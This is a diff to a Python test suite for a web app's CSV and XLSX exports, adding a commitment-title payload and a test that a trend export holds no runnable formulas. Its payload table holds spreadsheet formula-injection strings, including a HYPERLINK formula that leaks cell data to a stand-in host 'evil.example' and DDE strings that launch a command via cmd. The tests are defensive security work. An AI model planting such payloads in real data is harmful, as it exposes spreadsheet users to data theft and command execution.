@@ -18,7 +18,7 @@ import sqlalchemy as sa
 from openpyxl import load_workbook
 
 from improvement_tracker.extensions import db
-from improvement_tracker.models import Action, Finding, Force, OutcomeMeasure, Pillar, User
+from improvement_tracker.models import Action, Commitment, Finding, Force, OutcomeMeasure, Pillar, User
 from improvement_tracker.services import (
     clock,
     kept,
@@ -70,6 +70,8 @@ PAYLOADS = {
     # Outcome measures' names, which administrators type (outcome_measures.edit).
     "measure": '=HYPERLINK("https://evil.example/?leak="&C3,"Open")',
     "measure_count": "@SUM(1+1)*cmd|' /C calc'!A0",
+    # A national commitment's title, which the national team types (the national dashboard's table).
+    "commitment_title": "+SUM(1+1)*cmd|' /C calc'!A0",
 }
 # The measures given those names: a rate (on every national table) and a count.
 PLANTED_MEASURES = {"charge_rate": "measure", "referrals": "measure_count"}
@@ -95,7 +97,7 @@ RETURN_DOWNLOAD = "return_reviews.download"
 DASHBOARDS = {
     "dashboards.national_export": ("/dashboards/national/export/{table}.{fmt}",
                                    ["headline", "completion", "rag-by-pillar", "most-overdue", "trend",
-                                    "rag-disagreements", "latest-assessments"]),
+                                    "rag-disagreements", "latest-assessments", "commitments"]),
     "dashboards.pillar_export": ("/dashboards/pillars/P1/export/{table}.{fmt}", ["ranking"]),
     "dashboards.force_export": (f"/forces/{OWN}/dashboard/export/{{table}}.{{fmt}}",
                                 ["headline", "status-by-pillar", "milestone-burn-up", "overdue-actions",
@@ -112,6 +114,8 @@ TEMPLATES = {"imports.template_xlsx": f"/forces/{OWN}/import/template.xlsx",
              "imports.template_csv": f"/forces/{OWN}/import/template-actions.csv"}
 # The national team's template for a file of outcome figures (force codes, quarters, measure codes).
 OUTCOME_TEMPLATE = {"outcome_imports.template_csv": "/outcomes/import/template.csv"}
+# A commitment's completion trend: dates and shares, nothing a person typed.
+NUMBERS_ONLY = {"commitments.export_trend": f"/commitments/{COMMITMENTS[OWN][0]}/trend"}
 # Tables with no typed text at the start of a cell (numbers, dates, "P1 <pillar name>"): a payload
 # cannot be expected to show there as it does elsewhere.
 NO_TYPED_TEXT_FIRST = {"headline", "trend", "milestone-burn-up", "rag-by-pillar", "status-by-pillar",
@@ -121,7 +125,8 @@ NO_TYPED_TEXT_FIRST = {"headline", "trend", "milestone-burn-up", "rag-by-pillar"
 def test_every_download_route_is_covered(app):
     """A new CSV or XLSX route fails here until it is added above."""
     downloads = {r.endpoint for r in rules(app) if "fmt" in r.arguments or r.rule.endswith((".csv", ".xlsx"))}
-    covered = {e for e, _ in LISTS} | set(DASHBOARDS) | set(TEMPLATES) | set(OUTCOME_TEMPLATE) | {RETURN_DOWNLOAD}
+    covered = ({e for e, _ in LISTS} | set(DASHBOARDS) | set(TEMPLATES) | set(OUTCOME_TEMPLATE) | set(NUMBERS_ONLY)
+               | {RETURN_DOWNLOAD})
     assert downloads == covered
     assert all("GET" in methods(next(app.url_map.iter_rules(e))) for e in covered)
 
@@ -154,6 +159,8 @@ def planted(app, world):
     owner = db.session.get(User, world.own.owner.id)
     owner.name, owner.email = PAYLOADS["owner"], PAYLOADS["owner_email"]
     db.session.get(User, world.own.pm.id).name = PAYLOADS["manager"]
+    db.session.scalar(sa.select(Commitment).where(Commitment.reference == COMMITMENTS[OWN][0])).title = \
+        PAYLOADS["commitment_title"]
     action = db.session.get(Action, world.own.action_id)
     action.title, action.reference = PAYLOADS["action_title"], PAYLOADS["action_reference"]
     db.session.get(Finding, world.own.finding_id).reference = PAYLOADS["finding_reference"]
@@ -276,6 +283,18 @@ def test_import_templates_hold_no_formulas(app, planted):
         assert _runnable(cells) == [], url
     text = " ".join(str(c) for c in _cells(pm.client.get(TEMPLATES["imports.template_xlsx"]), "xlsx") if c)
     assert PAYLOADS["pillar"] in text
+
+
+def test_a_commitment_trend_holds_no_formulas(app, planted):
+    from improvement_tracker.services import snapshots
+
+    snapshots.build_live(db.session, clock.today())
+    db.session.commit()
+    national = browser(app, planted.oversight)
+    for url in NUMBERS_ONLY.values():
+        for fmt in ("csv", "xlsx"):
+            cells = _cells(national.client.get(f"{url}.{fmt}"), fmt)
+            assert cells and _runnable(cells) == [], url
 
 
 def test_the_outcome_import_template_holds_no_formulas(app, planted):
